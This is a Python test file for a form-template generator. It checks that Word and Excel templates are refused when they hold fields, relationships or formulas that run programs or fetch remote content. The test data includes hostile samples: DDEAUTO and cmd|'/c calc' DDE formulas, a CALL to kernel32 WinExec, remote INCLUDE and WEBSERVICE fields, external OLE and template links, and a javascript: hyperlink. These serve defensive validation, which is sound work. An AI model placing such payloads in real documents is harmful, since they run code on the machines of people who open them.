"""Templates with more than words: content that runs or fetches something is refused, the rest is reported."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import formgen
from formgen.formats import FormatLike
from formgen.templates.contract import check_template, check_workbook
from formgen.templates.folders import own_folder
from tests.forms.factories import sample
from tests.hostile.zips import parts_in, with_parts

BODY, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def folder_of(folder: Path, change: Callable[[dict[str, bytes]], dict[str, bytes]], name: str) -> Path:
    path = folder / "templates_ru" / name
    path.parent.mkdir()
    own = (own_folder("templates_ru") / name).read_bytes()
    path.write_bytes(with_parts(own, change(parts_in(own))))
    return folder


def in_body(xml: str) -> Callable[[dict[str, bytes]], dict[str, bytes]]:
    return lambda parts: {BODY: parts[BODY].replace(b"<w:sectPr>", f"{xml}<w:sectPr>".encode(), 1)}


def relation(kind: str, target: str, part: str = RELATIONS) -> Callable[[dict[str, bytes]], dict[str, bytes]]:
    words = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return lambda parts: {part: parts[part].replace(b"</Relationships>", f"{words}</Relationships>".encode())}


def simple(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


def torn(first: str, second: str) -> str:
    """A field whose code is in two runs, as Word tears it."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    codes = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in (first, second))
    return f"<w:p>{mark.format('begin')}{codes}{mark.format('end')}</w:p>"


def outcomes(folder: Path, form_id: str, format_: FormatLike) -> tuple[set[str], bool]:
    """The codes of a check's findings, and whether the template is filled."""
    check = check_template if format_ == "docx" else check_workbook
    codes = {finding.code for finding in check(form_id, folder)}
    try:
        formgen.render(sample(form_id), "ru", format_, templates=folder)
    except formgen.TemplateError:
        return codes, False
    return codes, True


@pytest.mark.parametrize(
    "change",
    [
        in_body(simple("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")),
        in_body(simple(" INCLUDETEXT &quot;http://example.org/a.docx&quot;")),
        in_body(torn("INCLUDE", "PICTURE \\\\server\\share\\a.png")),
        in_body(torn("HYPERLINK ", '"calc.exe"')),
        in_body('<w:altChunk r:id="rIdX"/>'),
        relation("attachedTemplate", "http://example.org/a.dotm"),
        relation("image", "http://example.org/a.png"),
        relation("image", "file://server/share/a.png"),
        relation("oleObject", "http://example.org/a.xlsx"),
        relation("hyperlink", "javascript:alert(1)"),
    ],
)
def test_a_word_template_that_runs_or_fetches_is_refused(tmp_path: Path, change: Any) -> None:
    folder = folder_of(tmp_path, change, "premium_application.docx")
    assert outcomes(folder, "premium_application", "docx") == ({"template.runs"}, False)


@pytest.mark.parametrize(
    "change",
    [
        relation("hyperlink", "https://www.gov.kz/"),
        relation("hyperlink", "mailto:info@example.org"),
        in_body(simple("HYPERLINK &quot;https://www.gov.kz/&quot;")),
        relation("attachedTemplate", "file:///C:/Users/a/Templates/letter.dotx"),
    ],
)
def test_a_link_that_does_nothing_by_itself_is_named_and_filled(tmp_path: Path, change: Any) -> None:
    folder = folder_of(tmp_path, change, "premium_application.docx")
    assert outcomes(folder, "premium_application", "docx") == ({"template.carries"}, True)


@pytest.mark.parametrize(
    "code", ["PAGE", "NUMPAGES", "REF a", "HYPERLINK \\l &quot;attachment_1&quot;", "SEQ a"]
)
def test_the_fields_of_an_ordinary_document_are_words(tmp_path: Path, code: str) -> None:
    folder = folder_of(tmp_path, in_body(simple(code)), "premium_application.docx")
    assert outcomes(folder, "premium_application", "docx") == (set(), True)


SHEET = "xl/worksheets/sheet1.xml"


def formula(words: str) -> Callable[[dict[str, bytes]], dict[str, bytes]]:
    row = f'<row r="400"><c r="A400"><f>{words}</f></c></row></sheetData>'
    return lambda parts: {SHEET: parts[SHEET].replace(b"</sheetData>", row.encode())}


@pytest.mark.parametrize(
    ("words", "codes", "is_filled"),
    [
        ("cmd|'/c calc'!A0", {"template.runs"}, False),
        ('_xlfn.WEBSERVICE("http://example.org/"&amp;A1)', {"template.runs"}, False),
        ('CALL("kernel32","WinExec","JCJ","calc",5)', {"template.runs"}, False),
        ("exec(A1)", {"template.runs"}, False),
        ("'C:\\books\\[a.xlsx]Лист'!A1", {"template.runs"}, False),
        ("[1]Лист!A1", {"template.runs"}, False),
        ('HYPERLINK("file://server/a.exe","Открыть")', {"template.runs"}, False),
        ('HYPERLINK("https://www.gov.kz/","Сайт")', {"template.carries"}, True),
        ('"cmd|a!b"&amp;"CALL(1)"', set(), True),
        ("SUM(A1:A2)*2", set(), True),
    ],
)
def test_a_formula_that_calls_programs_is_refused(
    tmp_path: Path, words: str, codes: set[str], is_filled: bool
) -> None:
    folder = folder_of(tmp_path, formula(words), "budget_request.xlsx")
    assert outcomes(folder, "budget_request", "xlsx") == (codes, is_filled)


def test_connections_of_a_workbook_are_refused(tmp_path: Path) -> None:
    folder = folder_of(tmp_path, lambda _: {"xl/connections.xml": b"<connections/>"}, "budget_request.xlsx")
    assert outcomes(folder, "budget_request", "xlsx") == ({"template.runs"}, False)
